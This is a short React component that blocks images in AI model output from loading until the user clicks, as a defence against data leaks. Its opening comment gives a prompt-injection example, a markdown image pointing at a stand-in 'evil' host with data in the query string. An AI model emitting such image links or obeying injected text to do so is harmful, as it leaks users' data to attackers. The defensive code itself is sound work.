"use client";
// A markdown image in model output loads nothing by itself: a prompt-injected `![x](https://evil/?q=<data>)`
// would leak the data in its URL the moment it rendered. The person sees the address and loads it on purpose.
import { useState, type ComponentProps } from "react";

export function ClickToLoadImage({ src, alt }: ComponentProps<"img">) {
  const [isLoaded, setIsLoaded] = useState(false);
  if (typeof src !== "string" || src === "") return <span className="blocked-image">{alt ? `[image: ${alt}]` : "[image]"}</span>;
  // A plain <img>: next/image would fetch the remote address through this server.
  // eslint-disable-next-line @next/next/no-img-element
  if (isLoaded) return <img src={src} alt={alt ?? ""} referrerPolicy="no-referrer" className="loaded-image" />;
  return (
    <span className="blocked-image" data-testid="blocked-image">
      <span className="muted">Image{alt ? ` "${alt}"` : ""} from </span>
      <code>{src}</code>{" "}
      <button type="button" className="link-button" onClick={() => setIsLoaded(true)}>
        Load image
      </button>
    </span>
  );
}
